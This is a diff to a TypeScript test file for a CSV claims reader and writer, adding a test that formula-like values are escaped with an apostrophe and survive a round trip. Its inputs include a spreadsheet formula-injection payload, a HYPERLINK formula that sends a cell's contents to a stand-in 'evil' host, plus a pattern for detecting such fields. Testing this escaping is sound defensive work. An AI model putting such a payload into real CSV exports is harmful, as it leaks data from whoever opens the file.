@@ -103,10 +103,21 @@ test.each([
   [`${HEADER},Reporter\n${ROW},RUS\n`, '1 reporter repeated-column'],
   [`${HEADER}\nRUS,MAR,T,2021,+42%,A minister, of trade,A paper,2022\n`, '2 - number-of-cells'],
   [`${HEADER}\nRUS,MAR,T\n`, '2 - number-of-cells'],
-  [`${HEADER},note\n${ROW},"open\n`, '2 note broken-row'],
+  [`${HEADER},note\n${ROW},"open\n`, '2 note unclosed-quote'],
   [`id,${HEADER}\na-claim,${ROW}\na-claim,${ROW}\n`, '3 id id-twice'],
 ])('%j: %s', (text, expected) => {
   expect(found(text)).toEqual([expected])
+})
+
+test('what a spreadsheet would compute is written with an apostrophe, which goes when it is read again', () => {
+  const [claim] = read(`${HEADER}\n${ROW}\n`)
+  for (const text of ['=HYPERLINK("http://evil/?"&A1)', '@SUM(A1)', '+cmd', '- stable', "'=1+1", "''@x", "'tis", '-5'])
+    for (const field of ['saidBy', 'publishedBy', 'note'] as const) {
+      const table = writeClaimsCsv([{ ...claim!, [field]: text }])
+      expect(read(table)).toEqual([{ ...claim!, [field]: text }])
+      // A number with its sign is none of these.
+      if (text !== '-5') expect(table).not.toMatch(/(?:^|,|")[=@]|,"?[+-](?=[a-z ])/m)
+    }
 })
 
 test('rows without an id get one from what they say', () => {
